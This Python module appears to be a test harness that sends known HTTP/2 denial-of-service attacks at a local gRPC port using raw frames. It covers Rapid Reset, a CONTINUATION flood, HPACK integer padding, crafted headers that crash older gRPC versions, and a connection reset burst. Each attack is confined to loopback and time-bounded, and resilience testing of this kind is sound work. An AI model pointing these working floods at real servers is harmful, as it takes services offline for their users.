"""Known HTTP/2 attacks on a gRPC port, written with raw frames (the `h2` and `hpack` libraries, no gRPC client), as
an attacker would send them: each bounded in time, loopback only, and stopping by itself.

Each function attacks `port` on 127.0.0.1 for at most `seconds` and returns what it did ({"connections", "streams" or
"frames", "closed_by_server"}); a server that closes the connection is connected to again, as an attacker would.
"""
from __future__ import annotations

import socket
import struct
import time

import h2.errors
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4


def request_headers(port: int, path: str) -> list:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", f"127.0.0.1:{port}"),
            ("content-type", "application/grpc"), ("te", "trailers")]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _connect(port: int) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.setblocking(False)
    return sock


def _drain(sock: socket.socket) -> bool:
    """Read and drop what the server sent; False once it closed the connection."""
    try:
        while True:
            data = sock.recv(1 << 16)
            if not data:
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def _send(sock: socket.socket, data: bytes, deadline: float) -> bool:
    """Send all of `data` before `deadline`; False when the server closed the connection (or the time is up)."""
    view = memoryview(data)
    while view and time.monotonic() < deadline:
        try:
            view = view[sock.send(view):]
        except BlockingIOError:
            if not _drain(sock):
                return False
            time.sleep(0.001)
        except OSError:
            return False
    return not view


def _raw_connection(port: int, deadline: float) -> socket.socket:
    """A connection that has sent the client preface and an empty SETTINGS frame."""
    sock = _connect(port)
    _send(sock, PREFACE + frame(SETTINGS, 0, 0), deadline)
    return sock


def _stream_flood(port: int, seconds: float, per_stream, batch: int, read: bool) -> dict:
    """New streams on one connection (`per_stream(stream id)`: its frames), `batch` at a time, for `seconds`; connected
    again when the server closes; `read`: read what the server says after each batch, not only when it pushes back."""
    deadline = time.monotonic() + seconds
    connections, streams, closed = 0, 0, 0
    while time.monotonic() < deadline:
        sock, connections = _raw_connection(port, deadline), connections + 1
        stream, alive = 1, True
        while alive and time.monotonic() < deadline and stream < (1 << 31) - 2 * batch:
            burst = b"".join(per_stream(s) for s in range(stream, stream + 2 * batch, 2))
            stream += 2 * batch
            streams += batch
            alive = _send(sock, burst, deadline) and (not read or _drain(sock))
        closed += not alive and time.monotonic() < deadline
        sock.close()
    return {"connections": connections, "streams": streams, "closed_by_server": closed}


def rapid_reset(port: int, path: str, seconds: float) -> dict:
    """CVE-2023-44487: send a whole request (HEADERS, then an empty gRPC message that ends the stream) and cancel it
    at once (RST_STREAM CANCEL), as fast as possible, reading what the server says only when it pushes back."""
    block = hpack.Encoder().encode(request_headers(port, path))
    message = b"\x00\x00\x00\x00\x00"  # gRPC's length-prefixed message: not compressed, 0 bytes
    cancel = struct.pack(">I", h2.errors.ErrorCodes.CANCEL)
    return _stream_flood(port, seconds, lambda s: frame(HEADERS, END_HEADERS, s, block) +
                         frame(DATA, END_STREAM, s, message) + frame(RST_STREAM, 0, s, cancel), 100, read=False)


def continuation_flood(port: int, path: str, seconds: float, piece: int = 4096) -> dict:
    """CVE-2023-33953 / the CONTINUATION flood: one header whose HPACK string (declared 1 GB long) is split over
    endless CONTINUATION frames, so that a parser that buffers until END_HEADERS buffers without bound."""
    deadline = time.monotonic() + seconds
    block = hpack.Encoder().encode(request_headers(port, path))
    huge = 1 << 30
    # a literal header without indexing, new name "x-pad", value of `huge` bytes (Huffman off): 7-bit prefix integer
    length = bytearray([0x7F])
    rest = huge - 0x7F
    while rest >= 0x80:
        length.append((rest & 0x7F) | 0x80)
        rest >>= 7
    length.append(rest)
    start = block + b"\x00\x05x-pad" + bytes(length)
    filler = b"a" * piece
    connections, frames, closed = 0, 0, 0
    stream = 1
    while time.monotonic() < deadline:
        sock, connections = _raw_connection(port, deadline), connections + 1
        alive = _send(sock, frame(HEADERS, END_STREAM, stream, start), deadline)
        while alive and time.monotonic() < deadline:
            alive = _send(sock, frame(CONTINUATION, 0, stream, filler) * 16, deadline) and _drain(sock)
            frames += 16
        closed += not alive and time.monotonic() < deadline
        sock.close()
    return {"connections": connections, "frames": frames, "closed_by_server": closed}


def hpack_integer_padding(port: int, path: str, seconds: float, padding: int = 4000) -> dict:
    """HPACK integers padded with thousands of 0x80 continuation bytes (a value of 0 said at great length), on many
    streams: a parser must bound an integer's bytes, not read them all."""
    block = hpack.Encoder().encode(request_headers(port, path))
    # an indexed header field (0b1xxxxxxx) whose index is 127 + 0 + 0 + ... (padding bytes 0x80, then 0x00)
    padded = block + b"\xff" + b"\x80" * padding + b"\x00"
    return _stream_flood(port, seconds, lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, padded), 50, read=True)


def crafted_headers(port: int, path: str, seconds: float) -> dict:
    """CVE-2023-1428 and its neighbours: requests whose `te`, `:scheme` or `grpclb_client_stats` headers are not
    what gRPC expects, followed by a header that takes the block past 8 KB (the two together reached an abort() in
    grpc core before 1.53), sent over and over."""
    base = dict(request_headers(port, path))
    pad = {"x-pad": "p" * 9000}
    variants = [{**base, "te": "x", **pad}, {**base, ":scheme": "x", **pad}, {**base, "grpclb_client_stats": "x", **pad},
                {**base, "te": "x", ":scheme": "x", "grpclb_client_stats": "x", **pad}]
    blocks = [hpack.Encoder().encode(list(v.items())) for v in variants]
    return _stream_flood(port, seconds, lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s,
                                                        blocks[(s // 2) % len(blocks)]), 40, read=True)


def connection_burst(port: int, seconds: float, count: int = 3000) -> dict:
    """CVE-2023-4785's trigger: many connections opened at once, each sending the preface, then dropped with a
    reset (SO_LINGER 0); up to `count` of them, within `seconds`."""
    deadline = time.monotonic() + seconds
    opened, refused = 0, 0
    held = []
    while opened + refused < count and time.monotonic() < deadline:
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=2)
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            held.append(sock)
            opened += 1
        except OSError:
            refused += 1
        if len(held) >= 500:  # the test process's own file descriptors: drop them in batches
            _reset_all(held)
    _reset_all(held)
    return {"connections": opened, "refused": refused}


def _reset_all(socks: list) -> None:
    for sock in socks:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.close()
    socks.clear()
